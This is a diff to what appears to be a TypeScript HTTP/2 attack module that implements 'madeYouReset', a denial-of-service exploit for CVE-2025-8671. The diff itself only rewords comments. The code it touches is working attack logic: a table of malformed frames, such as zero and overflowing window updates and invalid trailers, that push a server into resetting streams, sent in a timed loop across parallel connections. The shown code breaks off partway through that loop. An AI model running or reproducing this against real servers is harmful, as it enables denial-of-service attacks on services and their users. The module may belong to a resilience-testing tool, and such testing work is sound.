@@ -6,7 +6,7 @@ import { requestOf } from "../requests.ts";
 const CONNECTIONS = 2;
 const AT_ONCE = 20;
 
-/** Frames that oblige the server to reset the stream, or to end the connection, by RFC 9113. */
+/** Frames that force the server to reset the stream, or to close the connection (RFC 9113). */
 const TRIGGERS: readonly ((id: number, block: Buffer, body: Buffer) => Buffer[])[] = [
   (id) => [windowUpdate(id, 0)],
   (id) => [windowUpdate(id, MAX_31_BITS), windowUpdate(id, MAX_31_BITS)],
@@ -25,7 +25,9 @@ const TRIGGERS: readonly ((id: number, block: Buffer, body: Buffer) => Buffer[])
   (id) => [headers(id, encodeFields([["X-Trailer", "capitals"]]), { endStream: true })],
 ];
 
-/** CVE-2025-8671: the attacker makes the server reset the streams itself, once the request has begun to cost. */
+/**
+ * CVE-2025-8671: the attacker makes the server itself reset streams, after their requests have started to cost time.
+ */
 export const madeYouReset: Attack = async (context) => {
   let turn = 0;
   await inParallel(CONNECTIONS, () =>
@@ -33,7 +35,7 @@ export const madeYouReset: Attack = async (context) => {
       const trigger = TRIGGERS[turn++ % TRIGGERS.length];
       const { fields, body = Buffer.alloc(0) } = requestOf("grpc");
       const block = encodeFields(fields);
-      // So long at most with one trigger, so that each has its turn.
+      // The maximum time per trigger, so that each one is used.
       const changesAt = performance.now() + 1_000;
       while (session.isOpen() && context.isGoing() && performance.now() < changesAt) {
         const parts: Buffer[] = [];
